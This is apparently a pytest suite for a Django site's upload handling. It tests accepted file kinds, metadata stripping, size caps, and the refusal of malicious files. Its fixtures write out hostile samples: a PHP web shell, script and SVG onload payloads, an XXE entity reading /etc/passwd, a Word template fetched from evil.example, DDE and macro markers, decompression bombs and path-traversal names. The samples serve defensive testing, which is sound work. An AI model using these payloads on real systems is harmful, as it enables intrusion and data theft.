"""Files from strangers: what is taken, what is made of it, what is refused."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path
from typing import Any

import pillow_heif
import pytest
from django.http import HttpRequest
from PIL import Image

from broadsheet.stories.models import Contribution
from broadsheet.stories.uploads import kinds, quarantine, receiving
from broadsheet.stories.uploads.kinds import Kind
from tests.stories.conftest import (
    DOCUMENT,
    RELS,
    SEND,
    TYPES,
    W,
    docx,
    form,
    odt,
    package,
    picture,
    upload,
)

TEXT = "A note in plain words. Қазақша, русский, 中文, العربية.\n".encode()
PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF"


def heic() -> bytes:
    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (64, 48), (9, 99, 9))).save(out, format="HEIF")
    return out.getvalue()


GOOD = {
    "a.jpg": (picture("JPEG"), Kind.JPEG),
    "a.png": (picture("PNG"), Kind.PNG),
    "a.gif": (picture("GIF"), Kind.GIF),
    "a.webp": (picture("WEBP"), Kind.WEBP),
    "a.avif": (picture("AVIF", size=(64, 48)), Kind.AVIF),
    "a.heic": (heic(), Kind.HEIF),
    "a.pdf": (PDF, Kind.PDF),
    "a.docx": (docx(), Kind.DOCX),
    "a.odt": (odt(), Kind.ODT),
    "a.txt": (TEXT, Kind.TEXT),
}


@pytest.mark.parametrize("name", GOOD)
def test_every_kind_that_the_form_promises_is_taken(send: Any, name: str) -> None:
    content, kind = GOOD[name]
    assert send([upload(name, content)]).status_code == 302
    attachment = Contribution.objects.get().attachments.get()
    assert attachment.kind == kind
    assert attachment.size == len(content)
    assert bool(attachment.clean_copy) == (kind in kinds.PICTURES)
    with quarantine.open_file(attachment.original) as original:
        assert original.read() == content


def test_ten_files_of_all_kinds_come_together(send: Any, kept_files: Any) -> None:
    assert send([upload(name, content) for name, (content, _) in GOOD.items()]).status_code == 302
    attachments = Contribution.objects.get().attachments.all()
    assert [one.position for one in attachments] == list(range(1, 11))
    assert [one.name for one in attachments] == list(GOOD)
    assert len(kept_files()) == 16


def clean_of(contribution: Contribution) -> Image.Image:
    attachment = contribution.attachments.get()
    with quarantine.open_file(attachment.clean_copy) as file:
        image = Image.open(io.BytesIO(file.read()))
    image.load()
    return image


def test_the_public_copy_knows_nothing_of_place_time_and_camera(send: Any) -> None:
    exif = Image.Exif()
    exif[0x010F] = "Camera maker"
    exif[0x0112] = 6  # lies on its side
    exif.get_ifd(0x8825)[2] = (43.0, 15.0, 0.0)
    content = picture("JPEG", exif=exif, comment=b"my secret", xmp=b"<x:xmpmeta>secret</x:xmpmeta>")
    assert b"Camera maker" in content
    send([upload("a.jpg", content)])
    image = clean_of(Contribution.objects.get())
    assert image.size == (480, 640)  # turned upright
    assert not image.getexif()
    assert set(image.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}


def test_what_hides_behind_the_pixels_does_not_come_along(send: Any) -> None:
    hidden = b"<script>alert(1)</script>" + package({"evil.js": "evil"})
    send([upload("a.png", picture("PNG", size=(50, 40)) + hidden)])
    attachment = Contribution.objects.get().attachments.get()
    with quarantine.open_file(attachment.clean_copy) as file:
        assert b"script" not in file.read()


def test_a_big_picture_becomes_a_sensible_one(send: Any) -> None:
    send([upload("a.jpg", picture("JPEG", size=(6000, 3000)))])
    assert clean_of(Contribution.objects.get()).size == (4096, 2048)


@pytest.mark.parametrize(("mode", "kind", "made"), [
    ("RGBA", "PNG", "PNG"), ("P", "GIF", "JPEG"), ("L", "JPEG", "JPEG"), ("CMYK", "JPEG", "JPEG"),
    ("1", "PNG", "JPEG"), ("LA", "PNG", "PNG"),
])  # fmt: skip
def test_pictures_of_every_colour_kind_are_read(send: Any, mode: str, kind: str, made: str) -> None:
    color = {"RGBA": (1, 2, 3, 0), "CMYK": (1, 2, 3, 4), "LA": (9, 0)}.get(mode, 1)
    assert send([upload("a", picture(kind, mode=mode, color=color))]).status_code == 302
    assert clean_of(Contribution.objects.get()).format == made


def test_among_pictures_the_content_gives_the_name(send: Any) -> None:
    assert send([upload("IMG_1.jpg", picture("WEBP"))]).status_code == 302
    assert Contribution.objects.get().attachments.get().name == "IMG_1.webp"


# What is refused


def png_of(width: int, height: int) -> bytes:
    """A tiny file that says it is an enormous picture."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 4096)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
DDE = DOCUMENT.replace("<w:t>River</w:t>", "<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\x"
                       "</w:instrText>")  # fmt: skip
FETCH = (
    f'<Relationships xmlns="{RELS}"><Relationship Id="r1" TargetMode="External" '
    'Type="http://x/relationships/attachedTemplate" Target="http://evil.example/t.dotm"/></Relationships>'
)
MACRO_TYPE = (
    f'<Types xmlns="{TYPES}"><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
ENTITY = f'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:d xmlns:w="{W}">&x;</w:d>'
LISTENER = (
    '<office:body xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
    '<script:event-listener script:event-name="dom:load"/></office:body>'
)
BAD = {
    "page.html": (HTML, "of a kind we do not take"),
    "page.jpg": (HTML, "is no JPEG picture"),
    "note.txt": (HTML, "is not plain text"),
    "drawing.svg": (SVG, "of a kind we do not take"),
    "drawing.png": (SVG, "is no PNG picture"),
    "paper.jpg": (PDF, "inside it is a PDF document"),
    "letter.pdf": (picture("PNG"), "inside it is a PNG picture"),
    "notes.docx": (TEXT, "inside it is a plain text"),
    "run.exe": (b"MZ\x90\x00\x03\x00" + bytes(100), "of a kind we do not take"),
    "all.zip": (package({"a.txt": "text"}), "neither a Word nor"),
    "all.docx": (package({"a.txt": "text"}), "neither a Word nor"),
    "cut.zip": (b"PK\x03\x04" + bytes(60), "neither a Word nor"),
    "book.xlsx": (package({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<x/>"}), "neither"),
    "vba.docx": (docx(word__vbaProject_bin=b"x", **{"word/vbaProject.bin": b"x"}), "holds macros"),
    "type.docx": (docx(**{"[Content_Types].xml": MACRO_TYPE}), "holds macros"),
    "fetch.docx": (docx(**{"word/_rels/settings.xml.rels": FETCH}), "holds macros"),
    "dde.docx": (docx(**{"word/document.xml": DDE}), "holds macros"),
    "object.docx": (docx(**{"word/embeddings/oleObject1.bin": b"x"}), "holds macros"),
    "entity.docx": (docx(**{"word/document.xml": ENTITY}), "holds macros"),
    "broken.docx": (docx(**{"word/document.xml": "<w:document"}), "neither a Word nor"),
    "bomb.docx": (docx(**{"word/media/a.png": bytes(30_000_000)}), "unpacks to far too much"),
    "basic.odt": (odt(**{"Basic/Standard/Module1.xml": "<x/>"}), "holds macros"),
    "script.odt": (odt(**{"Scripts/python/a.py": "x"}), "holds macros"),
    "event.odt": (odt(LISTENER), "holds macros"),
    "sheet.odt": (package({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "is no Open"),
    "empty.jpg": (b"", "is empty"),
    "cut.jpg": (picture("JPEG")[:700], "cannot be read as a picture"),
    "junk.jpg": (b"\xff\xd8\xff\xe0" + bytes(500), "cannot be read as a picture"),
    "junk.heic": (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(200), "cannot be read as a picture"),
    "bomb.png": (png_of(60_000, 60_000), "million pixels"),
    "wide.png": (png_of(65_000, 1_000), "million pixels"),
    "big.txt": (b"a" * (20 * 1024 * 1024 + 1), "larger than 20 MB"),
    "old.txt": ("Письмо".encode("cp1251"), "is not plain text"),
    "../../etc/passwd": (b"\0\1\2", "“passwd” is of a kind"),
    "shell.php": (b"<?php system($_GET[1]); ?>", "of a kind we do not take"),
}


@pytest.mark.parametrize("name", BAD)
def test_a_bad_file_ends_in_a_sentence_and_leaves_nothing(send: Any, kept_files: Any, name: str) -> None:
    content, sentence = BAD[name]
    files = [upload("good.jpg", picture()), upload(name, content)]
    page = send(files).content.decode()
    assert sentence in page
    assert "choose them again" in page
    assert "It came at night." in page
    assert not Contribution.objects.exists()
    assert not kept_files()


def test_every_bad_file_gets_its_sentence_at_once(send: Any) -> None:
    page = send([upload("a.jpg", HTML), upload("b.zip", b"\0"), upload("c.txt", TEXT)]).content.decode()
    assert "“a.jpg”" in page
    assert "“b.zip”" in page
    assert "“c.txt”" not in page


@pytest.mark.parametrize("count", [11, 60, 150])
def test_more_than_ten_files_are_refused(send: Any, kept_files: Any, count: int) -> None:
    files = [upload(f"{number}.txt", TEXT) for number in range(count)]
    page = send(files).content.decode()
    assert "More than 10 files" in page
    assert "It came at night." in page
    assert not Contribution.objects.exists()
    assert not kept_files()


def test_a_files_name_is_text_and_never_a_path(send: Any) -> None:
    evil = '"><script>alert(1)</script>\u202egpj.exe.jpg'
    assert "<script>alert" not in send([upload(evil, HTML)]).content.decode()
    send([upload("..\\..\\C:\\" + "x" * 300 + ".txt", TEXT)])
    name = Contribution.objects.get().attachments.get().name
    assert len(name) <= 120
    assert name.endswith(".txt")
    assert "\\" not in name


class Endless(io.RawIOBase):
    """A body of 2 GB that notices how much of it is asked for."""

    def __init__(self, head: bytes) -> None:
        self.head, self.read_bytes = io.BytesIO(head), 0

    def read(self, size: int = -1) -> bytes:
        size = 64 * 1024 if size < 0 else size
        piece = self.head.read(size) or bytes(min(size, 64 * 1024))
        self.read_bytes += len(piece)
        return piece


def test_a_body_of_two_gigabytes_is_answered_without_being_read(
    client: Any, paper: Any, kept_files: Any
) -> None:
    fields = "".join(
        f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in form().items()
    )
    file = '--b\r\nContent-Disposition: form-data; name="attachments"; filename="a.jpg"\r\n\r\n'
    body = Endless((fields + file).encode())
    response = client.generic(
        "POST",
        SEND,
        **{
            "wsgi.input": body,
            "CONTENT_TYPE": "multipart/form-data; boundary=b",
            "CONTENT_LENGTH": str(2 * 1024**3),
        },
    )
    assert response.status_code == 413
    page = response.content.decode()
    assert "larger than 201 MB" in page
    assert "It came at night." in page
    assert body.read_bytes < 1024 * 1024
    assert not kept_files()


def test_a_big_body_without_files_is_refused_too(client: Any, paper: Any) -> None:
    response = client.post(
        SEND, "text=" + "a" * (6 * 1024 * 1024), content_type="application/x-www-form-urlencoded"
    )
    assert response.status_code == 200
    assert "did not arrive whole" in response.content.decode()


def test_a_form_that_broke_off_on_the_way_is_no_crash(client: Any, paper: Any) -> None:
    half = b'--b\r\nContent-Disposition: form-data; name="text"\r\n\r\nIt came'
    response = client.post(SEND, half, content_type="multipart/form-data; boundary=b")
    assert response.status_code == 200
    assert "was not sent yet" in response.content.decode()


def test_big_files_go_to_the_disk_and_none_stays_in_the_temporary_folder(
    send: Any, settings: Any, tmp_path: Path
) -> None:
    settings.FILE_UPLOAD_TEMP_DIR = tmp_path / "incoming"
    settings.FILE_UPLOAD_TEMP_DIR.mkdir()
    seen: list[Any] = []
    whole = receiving.CappedFiles.file_complete

    def spy(handler: Any, size: int) -> Any:
        seen.append(Path(handler.file.temporary_file_path()).exists())
        return whole(handler, size)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(receiving.CappedFiles, "file_complete", spy)
        send([upload("a.txt", TEXT * 1000), upload("b.jpg", picture())])
    assert seen == [True, True]
    assert not list(settings.FILE_UPLOAD_TEMP_DIR.iterdir())


def test_when_the_database_fails_no_file_stays(send: Any, kept_files: Any, monkeypatch: Any) -> None:
    from broadsheet.stories import actions

    def fail(*_: Any, **__: Any) -> None:
        raise RuntimeError("the disk is full")

    monkeypatch.setattr(actions, "_attach", fail)
    with pytest.raises(RuntimeError):
        send([upload("a.jpg", picture())])
    assert not Contribution.objects.exists()
    assert not kept_files()


def test_quarantine_is_for_the_paper_alone(send: Any, kept_files: Any, settings: Any) -> None:
    send([upload("a.jpg", picture())])
    for path in kept_files():
        assert path.stat().st_mode & 0o077 == 0
        assert "a.jpg" not in str(path)
        assert not path.is_relative_to(settings.MEDIA_ROOT)
        assert path.suffix == ""


def test_no_name_becomes_a_path_out_of_quarantine() -> None:
    for name in ("../../etc/passwd", "/etc/passwd", "", "a/b"):
        with pytest.raises(FileNotFoundError):
            quarantine.open_file(name)


def test_a_cap_on_the_body_fits_what_the_form_promises() -> None:
    request = HttpRequest()
    request.META["CONTENT_LENGTH"] = "not a number"
    request.method = "POST"
    assert receiving.receive(request, field_name="attachments").files == []
    assert receiving.MAX_BODY > 10 * 20 * 1024 * 1024
